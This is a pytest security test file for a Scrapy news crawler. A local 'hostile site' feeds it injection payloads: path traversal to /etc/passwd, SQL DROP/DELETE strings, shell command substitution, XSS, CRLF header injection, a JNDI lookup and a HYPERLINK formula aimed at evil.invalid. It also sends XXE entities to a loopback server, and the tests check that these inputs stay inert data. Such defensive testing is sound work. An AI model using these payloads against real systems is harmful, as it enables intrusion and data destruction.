"""Values from pages stay values; and docs/security.md names tests that are there."""

from __future__ import annotations

import html
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote

import forker
import pytest
from crawling import QUICK, Crawl, crawl
from middlewares import loopback
from scrapy.http import Response
from scrapy.settings import Settings

from wartaspider import settings as project
from wartaspider.exceptions import ArgumentError
from wartaspider.exporters.feeds import check_feeds
from wartaspider.pages.feeds import read_feed, read_sitemap
from wartaspider.pages.text import clean_text
from wartaspider.urls import Site

ROOT = Path(__file__).parents[1]
DOC = ROOT / "docs" / "security.md"

HOSTILE = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "%s %n %(x)s %d %",
    "{0.__class__.__init__.__globals__} {x} {}",
    "'; DROP TABLE articles; --",
    '" OR 1=1; DELETE FROM versions; /*',
    "$(touch pwned) `touch pwned` | touch pwned",
    "merah \x1b[2J\x1b]0;judul\x07 \x9b31m",
    '=HYPERLINK("http://evil.invalid","klik")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "baris\r\nX-Header: satu\r\n\r\nGET / HTTP/1.1",
    "kanan \u202etxt.exe\u202c kiri",
    "\\u0000 \\x00 \\N{BULLET} ${jndi:ldap://evil.invalid/a}",
)
BODY = "Harga beras naik tipis di pasar induk, kata pedagang, karena panen raya tertunda. " * 8


def page(body: str, title: str = "Warta") -> str:
    menu = "".join(
        f"<li><a class='nav-link' href='/category-{n}/{name}'>{html.escape(label)}</a></li>"
        for n, (name, label) in enumerate(
            [("news", "News"), ("%2e%2e", HOSTILE[0]), ("x';--", HOSTILE[4]), ("f", HOSTILE[2])], 9
        )
    )
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{html.escape(title)}</title>"
        f"</head><body><nav id='navbarMain' class='navbar'><ul class='navbar-nav'>{menu}</ul></nav>"
        f"<main>{body}</main></body></html>"
    )


def listing() -> str:
    rows = (
        f"<div class='articleListWrapper'><a class='articleListItem' title='{html.escape(text)}'"
        f" href='/read{100 + n}/{quote(text, safe='')}'></a>"
        f"<h3><a href='/read{100 + n}/{quote(text, safe='')}'>{html.escape(text)}</a></h3>"
        "<time class='text-muted'>Kamis, 08 Juli 2021, 10:00 WIB</time>"
        f"<a href='/read{100 + n}/{html.escape(text)}'>lagi</a></div>"
        for n, text in enumerate(HOSTILE)
    )
    return page(f"<div class='articleList'>{''.join(rows)}</div>")


def article(text: str) -> str:
    text = html.escape(text)
    return page(
        f"<div class='articlePostHeader'><ul><li><a href='/'>Home</a></li><li><a href='/c/{text}'>"
        f"{text}</a></li></ul><h1>{text}</h1><span>Kamis, 08 Juli 2021, 10:00 WIB</span></div>"
        f"<figure><img src='/f/{text}.jpg'><figcaption>{text}</figcaption></figure>"
        f"<div class='articlePostContent clearfix'><p>{text}</p><p>{BODY}</p><p>{text}</p></div>"
        f"<div class='articlePostAuthor'><p>Penulis: {text}</p><p>Editor: {text}</p></div>"
        f"<div class='articleTags'><a href='/tag-1/{text}'>{text}</a></div>",
        text,
    )


class HostileSite(BaseHTTPRequestHandler):
    """A site whose every text means harm."""

    def do_GET(self) -> None:
        found = re.match(r"/read(\d+)", self.path)
        if self.path == "/":
            body = page("<p>Beranda</p><a href='/read100/a'>Satu</a>")
        elif self.path.startswith("/indeks") and "page=2" not in self.path:
            body = listing()
        elif found and int(found[1]) - 100 in range(len(HOSTILE)):
            body = article(HOSTILE[int(found[1]) - 100])
        else:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("ETag", '"%s {0} \';--"')
        self.end_headers()
        self.wfile.write(body.encode("utf-8", "surrogatepass"))

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawl]:
    """A crawl of that site."""
    folder = tmp_path_factory.mktemp("hostile")
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileSite)
    Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    settings = {
        "WARTA_NOW": "2021-07-08T21:05:00+07:00",
        "WARTA_RAW_DIR": str(folder / "raw"),
        "LOG_LEVEL": "DEBUG",
        **{name: value for name, value in QUICK.items() if name != "LOG_LEVEL"},
    }
    base = f"http://127.0.0.1:{server.server_port}"
    yield crawl(base, folder, "since=2021-07-08", settings=settings)
    server.shutdown()
    server.server_close()


def test_hostile_values_stay_values(hostile: Crawl):
    assert hostile.exit_code == 0, hostile.log[-3000:]
    rows = hostile.rows
    assert [rows[100 + n]["headline"] for n in range(len(HOSTILE))] == [
        clean_text(text) for text in HOSTILE
    ]
    assert all(BODY.strip() in str(row["article_body"]) for row in rows.values())


def test_hostile_values_are_no_format_strings(hostile: Crawl):
    assert "Logging error" not in hostile.log
    assert "Traceback" not in hostile.log
    assert "__globals__': " not in hostile.log
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", hostile.log)


def test_hostile_values_are_no_query_text(hostile: Crawl):
    with closing(sqlite3.connect(hostile.output.parent / "archive.db")) as db:
        (count,) = db.execute("select count(*) from versions").fetchone()
        assert db.execute("pragma integrity_check").fetchone() == ("ok",)
    assert count == len(HOSTILE)


def test_hostile_values_are_no_paths(hostile: Crawl):
    folder = hostile.output.parent
    files = {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
    own = re.compile(r"archive\.db(-wal|-shm)?|out\.json|[\w./-]+\.lock|raw/[\w./-]+\.warc(\.gz)?")
    assert [name for name in files if not own.fullmatch(name)] == []
    assert not any((place / "pwned").exists() for place in (ROOT, folder, Path.cwd()))


@pytest.mark.parametrize(
    "command",
    [
        ["explain", *(str(100 + n) for n in range(1))],
        ["explain", "107"],
        ["explain", "111", "--json"],
        ["coverage", "--since", "2021-07-08", "--until", "2021-07-08"],
    ],
    ids=" ".join,
)
def test_hostile_values_steer_no_terminal(command: list[str], hostile: Crawl):
    url = f"WARTA_ARCHIVE=sqlite:///{hostile.output.parent / 'archive.db'}"
    done = forker.run(["scrapy", *command, "-s", url], timeout=60)
    assert "Traceback" not in done.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.stdout + done.stderr)
    assert done.stdout


@pytest.mark.parametrize("form", ['<!ENTITY e SYSTEM "{}">', '<!ENTITY % e SYSTEM "{}"> %e;'])
def test_xml_asks_the_network_for_nothing(form: str):
    asked = loopback.Server()
    entity = form.format(f"{asked.base}/luar.dtd")
    body = (
        f'<!DOCTYPE rss SYSTEM "{asked.base}/rss.dtd" [{entity}]>'
        '<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item><title>Satu &e;</title>'
        f'<link>/read1/a</link></item><xi:include href="{asked.base}/x.xml"/></channel></rss>'
    )
    response = Response("http://127.0.0.1:8000/rss", body=body.encode())
    read_feed(response, site=Site("http://127.0.0.1:8000"))
    read_sitemap(response, site=Site("http://127.0.0.1:8000"))
    asked.close()
    assert asked.arrivals == []


def test_doors_that_are_shut(hostile: Crawl):
    settings = Settings()
    settings.setmodule(project)
    for name in ("COOKIES_ENABLED", "TELNETCONSOLE_ENABLED", "REMOTE_CONTROL_ENABLED"):
        assert not settings.getbool(name)
    assert "onsole listening" not in hostile.log
    schemes = settings.getwithbase("DOWNLOAD_HANDLERS")
    assert {name for name, handler in schemes.items() if handler} == {"http", "https"}
    for kind in ("pickle", "marshal"):
        with pytest.raises(ArgumentError, match="unknown format"):
            check_feeds(Settings({**settings, "FEEDS": {"a": {"format": kind}}}))


def rows_of(text: str) -> list[list[str]]:
    lines = [line for line in text.splitlines() if line.startswith("| ")]
    return [[cell.strip() for cell in line.strip("|").split(" | ")] for line in lines]


THREATS = [row for row in rows_of(DOC.read_text("utf-8")) if "::" in row[-1]]
NAMED = sorted({name for row in THREATS for name in re.findall(r"`([\w/.]+::\w+)`", row[-1])})


def test_each_threat_has_a_measure_and_a_test():
    assert len(THREATS) >= 20
    every = [row for row in rows_of(DOC.read_text("utf-8")) if row[0] not in ("Threat", "---")]
    assert [row for row in every if len(row) != 3 or not all(row) or "`" not in row[2]] == []


@pytest.mark.parametrize("name", NAMED)
def test_security_document_names_tests_that_are_there(name: str):
    path, _, function = name.partition("::")
    text = (ROOT / "tests" / path).read_text("utf-8")
    assert re.search(rf"^(async )?def {function}\(", text, re.MULTILINE)


def test_readme_leads_to_the_security_document():
    assert "(docs/security.md)" in (ROOT / "README.md").read_text("utf-8")
